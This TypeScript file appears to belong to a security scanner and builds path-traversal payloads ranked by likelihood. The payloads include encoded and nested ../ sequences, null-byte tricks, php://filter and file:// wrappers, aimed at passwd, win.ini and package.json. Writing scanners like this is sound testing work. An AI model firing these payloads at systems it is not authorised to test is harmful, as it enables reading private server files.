import { knownFiles, type SystemFile } from '../_shared/knownFiles.ts'

/** A value that leaves the folder that an application reads from. */
export type TraversalPayload = {
  /** For people: how it leaves the folder. */
  readonly name: string
  readonly file: SystemFile
  /** The value for a path inside the file system. `value` is what the application itself sends there. */
  readonly write: (value: string, path: string) => string
}

/** More steps up than folders are deep: at the root of a file system further ones lead nowhere else. */
const steps = 9
const up = (step: string): string => step.repeat(steps)

const { passwd, winIni, packageJson } = knownFiles

// Read from a folder it leaves that, and read from nowhere else the steps at the root lead nowhere.
const fromRoot: TraversalPayload = {
  name: '../ sequences behind a slash',
  file: passwd,
  write: (_, path) => `/${up('../')}${path}`,
}
const absolute: TraversalPayload = { name: 'absolute path', file: passwd, write: (_, path) => `/${path}` }
const afterFolder: TraversalPayload = {
  name: '../ sequences after the directory of the value',
  file: passwd,
  write: (value, path) => `${folderOf(value)}${up('../')}${path}`,
}
const phpFilter: TraversalPayload = {
  name: 'php://filter',
  file: { ...passwd, recognize: recognizeEncoded },
  write: (_, path) => `php://filter/convert.base64-encode/resource=/${path}`,
}
const fileUrl: TraversalPayload = {
  name: 'file:// URL',
  file: passwd,
  write: (_, path) => `file:///${path}`,
}

const nested: TraversalPayload = {
  name: 'nested ../ sequences, which survive removal of ../',
  file: passwd,
  write: (_, path) => `${up('....//')}${path}`,
}
const encoded: TraversalPayload = {
  name: 'double-encoded ../ sequences',
  file: passwd,
  write: (_, path) => `${up('%2e%2e%2f')}${path}`,
}

/** Ways that differ in what stands in front of a value, or checks it: the likeliest first. */
const likeliest: readonly TraversalPayload[] = [fromRoot, nested, encoded, absolute]

/** The same for what reads files of other kinds. */
const elsewhere: readonly TraversalPayload[] = [
  {
    name: '..\\ sequences behind a backslash (Windows)',
    file: winIni,
    write: (_, path) => `\\${up('..\\')}${path}`,
  },
  phpFilter,
  fileUrl,
]

/** In place of a URL: what fetches it takes no path without a scheme, but what opens it may. */
const inUrl: readonly TraversalPayload[] = [fileUrl, fromRoot]

/** What only a value needs that is known to be the path of a file. */
const rarePayloads: readonly TraversalPayload[] = [
  { name: '../ sequences', file: passwd, write: (_, path) => `${up('../')}${path}` },
  afterFolder,
  {
    name: '../ sequences with a null byte before the extension',
    file: passwd,
    write: (value, path) => `${up('../')}${path}\0${extensionOf(value)}`,
  },
  {
    name: 'absolute path with a null byte before the extension',
    file: passwd,
    write: (value, path) => `/${path}\0${extensionOf(value)}`,
  },
  {
    name: 'twice double-encoded ../ sequences',
    file: passwd,
    write: (_, path) => `${up('%252e%252e%252f')}${path}`,
  },
  { name: '../ repeated 5 times', file: passwd, write: (_, path) => `${'../'.repeat(5)}${path}` },
  { name: '../ repeated 2 times', file: passwd, write: (_, path) => `${'../'.repeat(2)}${path}` },
  { name: 'absolute path (Windows)', file: winIni, write: (_, path) => `C:\\${path}` },
]

/** For names of which only an extension is left: the project's own file, so many folders above. */
const projectFilePayloads: readonly TraversalPayload[] = [1, 2, 3, 4].map((count) => ({
  name: `../ repeated ${count} times`,
  file: packageJson,
  write: (_, path) => `${'../'.repeat(count)}${path}`,
}))

/** Those that tell something of values that are not known to be paths: the first of each is the same. */
export const fewPayloads = {
  first: [fromRoot],
  /** With the way that is left where slashes are turned away. */
  withoutSlash: [fromRoot, encoded],
  likeliest,
  ofAnyReader: [...likeliest, ...elsewhere],
} as const satisfies Readonly<Record<string, readonly TraversalPayload[]>>

/** The payloads for a parameter that has this value, the likeliest first. `origin`: where the application itself is. */
export function traversalPayloadsFor(value: string, origin: string): readonly TraversalPayload[] {
  // Only of its own URLs an application takes the path, and reads the file that it serves there.
  if (isUrl(value)) return value.startsWith(`${origin}/`) ? [...inUrl, afterFolder] : inUrl
  const all = [...likeliest, ...elsewhere, ...rarePayloads]
  return value.endsWith('.json') ? [...all, ...projectFilePayloads] : all
}

/** Says whether a value is a URL with its scheme, which is no path to go on from. */
export function isUrl(value: string): boolean {
  return /^[a-z][a-z0-9+.-]{0,20}:\/\//i.test(value)
}

const base64CharsMin = 80
const scannedChars = 256 * 1024

/** The file in Base64, in which a filter of PHP gives it: what is included would be shown raw, or executed. */
function recognizeEncoded(text: string): string | null {
  const runs = text.slice(0, scannedChars).match(new RegExp(`[A-Za-z0-9+/]{${base64CharsMin},}`, 'g')) ?? []
  for (const run of runs) {
    const line = passwd.recognize(Buffer.from(run, 'base64').toString('latin1'))
    if (line !== null) return line
  }
  return null
}

function folderOf(value: string): string {
  const end = value.lastIndexOf('/')
  return end === -1 ? 'files/' : value.slice(0, end + 1)
}

function extensionOf(value: string): string {
  return /\.[a-z0-9]{1,8}$/i.exec(value)?.[0] ?? '.txt'
}
